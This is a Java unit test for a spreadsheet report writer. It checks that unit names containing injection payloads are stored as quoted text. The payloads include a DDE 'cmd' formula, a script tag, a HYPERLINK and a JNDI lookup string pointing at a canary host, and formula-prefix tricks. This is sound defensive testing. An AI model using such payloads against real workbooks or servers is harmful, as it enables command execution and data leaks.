package dev.gouji.report.workbook;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.gouji.look.FormulaStart;
import dev.gouji.report.workbook.errors.ChasingList;
import dev.gouji.report.workbook.errors.ErrorReport;
import dev.gouji.report.workbook.sheet.CellText;
import dev.gouji.testkit.SampleYear;
import dev.gouji.year.Account;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.apache.poi.openxml4j.util.ZipSecureFile;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Hyperlink;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Whatever a unit is called, its name stays a name. */
class HostileNamesTest {
  private static final String CALC = "=cmd|' /C calc'!A0";
  private static final Map<Integer, String> NAMES =
      Map.of(
          0, CALC,
          1, "<script>alert(1)</script>&amp;",
          2, "很长的名字".repeat(8000),
          4, "a/b:c*?[x]\u0001\uD800",
          5, "＝HYPERLINK(\"http://canary.invalid\")",
          6, "@SUM(1)",
          7, "+1\t\"quote\"",
          8, "_x0041_ &A &P ${jndi:ldap://canary.invalid/x}");

  private static double ratio;

  @TempDir private Path folder;

  /** The long name packs so well that the reader would take the workbook for an attack. */
  @BeforeAll
  static void allowWellPackedText() {
    ratio = ZipSecureFile.getMinInflateRatio();
    ZipSecureFile.setMinInflateRatio(0.0001);
  }

  @AfterAll
  static void restoreLimit() {
    ZipSecureFile.setMinInflateRatio(ratio);
  }

  private interface Writer {
    void write(Account year, Path target) throws IOException;
  }

  private XSSFWorkbook written(Writer writer) throws IOException {
    Path target = folder.resolve("x.xlsx");
    writer.write(SampleYear.named(NAMES), target);
    Parts.of(target)
        .forEach(
            (name, text) -> {
              if (name.endsWith(".rels")) {
                assertFalse(text.contains("canary"), name);
              }
            });
    try (InputStream in = Files.newInputStream(target)) {
      return new XSSFWorkbook(in);
    }
  }

  private static int check(XSSFWorkbook workbook) {
    int named = 0;
    for (Sheet sheet : workbook) {
      for (Row row : sheet) {
        for (Cell cell : row) {
          named += check((XSSFCell) cell) ? 1 : 0;
        }
      }
      for (Hyperlink link : sheet.getHyperlinkList()) {
        assertTrue(link.getAddress().matches("[A-Za-z0-9/._~%-]+"), link.getAddress());
      }
    }
    return named;
  }

  private static boolean check(XSSFCell cell) {
    if (cell.getCellType() == CellType.FORMULA) {
      String formula = cell.getCellFormula();
      assertFalse(formula.contains("cmd") || formula.contains("canary"), formula);
      return false;
    }
    if (cell.getCellType() != CellType.STRING) {
      return false;
    }
    String text = cell.getStringCellValue();
    assertTrue(text.length() <= 32_767, "too long in " + cell.getReference());
    if (FormulaStart.isAt(text)) {
      assertTrue(cell.getCellStyle().getQuotePrefixed(), cell.getReference() + " " + text);
    }
    return text.equals(CALC);
  }

  @Test
  void namesStayNamesInTheConsolidatedWorkbook() throws IOException {
    try (XSSFWorkbook workbook = written(ConsolidatedWorkbook::write)) {
      assertEquals(2, check(workbook), "once among the units, once among the files");
    }
  }

  @Test
  void namesStayNamesInTheErrorReport() throws IOException {
    try (XSSFWorkbook workbook = written(ErrorReport::write)) {
      assertTrue(check(workbook) > 0);
    }
  }

  @Test
  void namesStayNamesInTheChasingList() throws IOException {
    try (XSSFWorkbook workbook = written(ChasingList::write)) {
      assertTrue(check(workbook) > 0);
    }
  }

  @Test
  void controlCharactersAndHalfPairsAreReplaced() {
    assertEquals("a\uFFFDb\uFFFD\nc", CellText.fit("a\u0001b\uD800\r\nc"));
  }

  @Test
  void tooLongTextIsCutAndSaysSo() {
    String fit = CellText.fit("\uD842\uDFB7".repeat(20_000));
    assertTrue(fit.length() <= 32_767);
    assertTrue(fit.endsWith("（原文过长，后面的没有列出）"));
    assertEquals(-1, fit.indexOf('\uFFFD'));
  }
}
